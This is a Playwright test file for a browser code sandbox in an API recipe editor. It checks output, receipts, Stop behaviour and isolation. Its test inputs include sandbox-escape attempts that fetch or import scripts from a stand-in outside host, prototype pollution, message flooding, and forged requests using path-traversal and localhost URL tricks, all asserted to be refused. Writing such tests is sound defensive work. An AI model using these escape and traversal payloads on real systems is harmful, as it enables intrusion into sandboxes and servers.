import type { Page } from "@playwright/test";
import { whatRecipesDo } from "../src/testing/what-recipes-do.ts";
import { enterCode, openRecipes } from "./recipe-editor.ts";
import { expect, got, ORDER, posted, test, transportOf } from "./site.ts";

const run = (page: Page) => page.getByRole("button", { name: "Run", exact: true });
const stop = (page: Page) => page.getByRole("button", { name: "Stop", exact: true });
const output = (page: Page) => page.getByRole("log", { name: "Output" });
const happened = (page: Page) => page.getByRole("main");

/** The calls in the output, as `whatRecipesDo` writes them, but for ids and for which message was lost. */
async function callsShown(page: Page): Promise<readonly string[]> {
  const rows = await output(page).getByRole("link").allInnerTexts();
  const lines = rows.map((row) => {
    const [, method, path, status, mark] = /^(\w+)\s+(\S+)\s+(\d+|No response).*?(charged 0.00)?$/s.exec(row) ?? [];
    return `${method} ${path}: ${status}${mark ? ", replayed" : ""}`.replace(/(ord|key)_\w+/g, "{id}");
  });
  return lines.filter((line, at) => !line.startsWith("GET") || line !== lines[at - 1]);
}

for (const mode of ["worker", "page"] as const) {
  test(`every recipe does in ${mode} mode what it does in Node @nightly`, async ({ page, site }) => {
    if (mode === "page") site.missing.add("/sandbox-worker.js");
    for (const [id, { calls = [], last }] of Object.entries(whatRecipesDo)) {
      await page.goto("about:blank");
      await page.goto(`${site.url}?reset=1#/recipes/${id}`);
      expect(await transportOf(page)).toBe(mode);
      await run(page).click();
      await expect(happened(page).getByText(/^Finished/), id).toBeVisible();
      const expected = calls.map((call) =>
        call.replace(/\{\d\}/g, "{id}").replace(/: \d+, (request|response) lost/, ": No response"),
      );
      expect(await callsShown(page), id).toEqual(expected);
      const text = typeof last === "string" ? last : new RegExp(last.source.replaceAll(/2026[^$]*\$/g, ""));
      await expect(output(page).getByRole("listitem").last()).toHaveText(text);
    }
  });
}

test("a run shows each call with its receipt and its entry in the Log, what it prints, and how it ended", async ({
  page,
  site,
}) => {
  await openRecipes(page, site);
  await enterCode(
    page,
    `const { BASE_URL, API_KEY } = process.env;
const headers = { Authorization: \`Bearer \${API_KEY}\`, "Content-Type": "application/json" };
const body = ${JSON.stringify(JSON.stringify(ORDER))};
globalThis.sandbox?.loseNext("response");
await fetch(BASE_URL + "/v1/orders", { method: "POST", headers, body }).catch(String);
const response = await fetch(BASE_URL + "/v1/orders", { method: "POST", headers, body });
console.log(response.status, API_KEY, "<b>text</b>");
throw new Error("on line eight");`,
  );
  await run(page).click();
  await expect(happened(page).getByText("The code stopped: Error: on line eight (line 8).")).toBeVisible();
  await expect(output(page).getByText("No response")).toBeVisible();
  await expect(output(page).getByText("201 Created")).toBeVisible();
  await expect(output(page).getByText("201 rsk_demo_...gRqf <b>text</b>")).toBeVisible();
  await happened(page).getByRole("button", { name: "Go to line 8" }).click();
  await expect(page.getByRole("textbox", { name: /^Code: / })).toBeFocused();
  // The record of the lost call as well.
  const entries = output(page).getByRole("link");
  await expect(entries).toHaveText([/No response\s*charged 9.50/, /201 Created\s*charged 9.50/]);
  const receipts = happened(page).getByRole("region", { name: "Service" }).getByRole("listitem");
  await expect(receipts).toHaveText([/^DUPLICATE 9\.50/, /^ORDER 9\.50/]);
  await entries.first().click();
  await expect(page.getByRole("region", { name: "Call", exact: true })).toBeVisible();
  expect((await got(page, "/v1/wallet")).json.balance).toBe("481.00");
});

const HOSTILE: readonly (readonly [what: string, code: string, ending: RegExp])[] = [
  ["a million lines", "for (let i = 0; i < 1e6; i++) console.log(i);", /^Finished/],
  ["a long text", 'console.log("x".repeat(1e8));', /^Finished/],
  ["an endless loop", "for (;;) {}", /^Stopped/],
  [
    "messages that evade the worker's own",
    `const native = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(self), "postMessage") ?? null;
const channel = new MessageChannel();
for (;;) (native?.value ?? channel.port1.postMessage.bind(channel.port1)).call(self, "x".repeat(1e5));`,
    /^Stopped/,
  ],
  ["calls without an end", 'for (;;) fetch(process.env.BASE_URL + "/v1/wallet");', /^Stopped/],
  [
    "a polluted prototype",
    'Object.prototype.kind = "done"; Array.prototype.map = () => { throw 1 }; console.log("still here");',
    /^(Finished|The code stopped)/,
  ],
  [
    "the network",
    `const tries = [
  () => fetch("https://elsewhere.example/"),
  () => Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, process.env.BASE_URL + "/v1/wallet"),
  async () => Object.getPrototypeOf(Object.getPrototypeOf(self)).importScripts.call(self, "https://elsewhere.example/x.js"),
  () => fetch(process.env.BASE_URL + "/index.html"),
  async () => importScripts("https://elsewhere.example/x.js"),
  async () => new WebSocket("wss://elsewhere.example/"),
  async () => new XMLHttpRequest(),
  async () => new Worker("data:text/javascript,fetch('https://elsewhere.example/')"),
  () => import("https://elsewhere.example/x.js"),
  () => import("data:text/javascript,export default 1"),
  async () => eval("1"),
  async () => { if (self.indexedDB) await new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = ok; r.onerror = no; }); else throw 1; },
  async () => { await caches.keys(); },
  async () => { localStorage.x = 1; },
  async () => { postMessage(1); },
];
let refused = 0;
for (const each of tries) await each().catch(() => refused++);
console.log("refused " + refused + " of " + tries.length);
close();`,
    /^Finished/,
  ],
];

for (const isTimed of [false, true]) {
  test(`hostile code neither leaves the page nor holds it up, and Stop ends it${isTimed ? ", within a second @nightly" : ""}`, async ({
    page,
    site,
  }) => {
    // The browser says what the frame's policy refuses.
    site.expectedErrors = /Content Security Policy|blocked by CSP|violates/;
    await openRecipes(page, site);
    const before = await page.evaluate(() => localStorage.getItem("top-up-sandbox"));
    if (isTimed)
      await page.evaluate(() => {
        const seen = { longest: 0, slowest: 0 };
        Object.assign(window, { seen });
        // From the press of Stop, as the browser dates it, until the page says so: the driver's own time is not the page's.
        document.addEventListener(
          "click",
          ({ target, timeStamp }) => {
            if (!(target instanceof Element) || target.textContent !== "Stop") return;
            const changes = new MutationObserver(() => {
              if (!/Stopped/.test(document.querySelector("main")?.textContent ?? "")) return;
              changes.disconnect();
              seen.slowest = Math.max(seen.slowest, performance.now() - timeStamp);
            });
            changes.observe(document.body, { childList: true, subtree: true, characterData: true });
          },
          true,
        );
        new PerformanceObserver((list) => {
          for (const { duration } of list.getEntries()) seen.longest = Math.max(seen.longest, duration);
        }).observe({ type: "longtask" });
      });
    for (const [what, text, ending] of HOSTILE) {
      await enterCode(page, text);
      await run(page).click();
      if (/^\^Stopped/.test(ending.source)) await stop(page).click();
      await expect(happened(page).getByText(ending), what).toBeVisible();
      await run(page).waitFor();
      if (what === "the network") await expect(output(page)).toContainText("refused 15 of 15");
    }
    if (isTimed) {
      const seen = await page.evaluate(
        () => (window as unknown as { seen: Record<"longest" | "slowest", number> }).seen,
      );
      expect(seen.slowest).toBeGreaterThan(0);
      for (const time of Object.values(seen)) expect(time).toBeLessThan(1000);
    }
    expect(await page.evaluate(() => localStorage.getItem("top-up-sandbox"))).toBe(before);
    expect((await posted(page, "/v1/orders", ORDER, "after")).status).toBe(201);
  });
}

/** Calls of a run as a hostile one makes them: past its own `Request`, with the address and method it wants. */
const FORGED = `self.Request = class {
  constructor(url) {
    const quiet = new AbortController().signal;
    return { url, method: "POST", headers: new Headers(), signal: quiet, arrayBuffer: async () => new ArrayBuffer(0) };
  }
};
const { BASE_URL } = process.env;
const addresses = ["/v1/../account", "/v1/%2e%2e/account", "/v1\\\\..\\\\account", "/v1/.\t./account", "/account", "/v1/..//account"];
let errors = 0;
for (const address of addresses) await fetch(BASE_URL + address).catch(() => errors++);
for (const url of ["//127.0.0.1/v1/wallet", "data:,x", BASE_URL.replace("://", "://user@") + "/v1/wallet"]) await fetch(url).catch(() => errors++);
console.log("errors " + errors);
for (let count = 0; count < 2900; count++) sandbox.loseNext("response");`;

test("a forged call reaches no host, and failures beyond ten are not turned on", async ({ page, site, context }) => {
  await context.addCookies([{ name: "session", value: "own", url: site.url }]);
  await openRecipes(page, site);
  await enterCode(page, FORGED);
  await run(page).click();
  await expect(output(page).getByText("errors 9")).toBeVisible();
  await expect(output(page).getByText(/^sandbox.loseNext has no effect: ten failures/)).toHaveCount(1);
  await expect(happened(page).getByText(/^(Finished|Stopped)/)).toBeVisible();
  expect(site.requested.filter((path) => !path.startsWith("/assets/") && /account|wallet/.test(path))).toEqual([]);
  expect((await posted(page, "/v1/orders", ORDER)).status).toBe(201);
});

const SLOW_ORDER = `sandbox.loseNext("response");
sandbox.loseNext("request");
console.log("begun");
const headers = { Authorization: "Bearer " + process.env.API_KEY, "Content-Type": "application/json" };
await fetch(process.env.BASE_URL + "/v1/wallet", { headers }).catch(String);
await fetch(process.env.BASE_URL + "/v1/wallet", { headers }).catch(String);
await fetch(process.env.BASE_URL + "/v1/orders", { method: "POST", headers, body: ${JSON.stringify(JSON.stringify(ORDER))} });`;

test("Stop during a slow order: it is never placed, and the visitor's next calls get responses @nightly", async ({
  page,
  site,
}) => {
  await page.goto(`${site.url}?latency=4000#/recipes`);
  expect(await transportOf(page)).toBe("worker");
  await enterCode(page, SLOW_ORDER);
  await run(page).click();
  await expect(output(page).getByText("POST")).toBeVisible();
  await stop(page).click();
  await expect(output(page).getByText("Run stopped")).toBeVisible();
  await expect(page.getByText("Waiting…")).toHaveCount(0);
  // Slow too, and sent later: the order of the run would have been placed by then.
  const [wallet, orders] = await Promise.all([got(page, "/v1/wallet"), got(page, "/v1/orders")]);
  expect([wallet.json.balance, orders.json.pagination.total]).toEqual(["500.00", 0]);
});
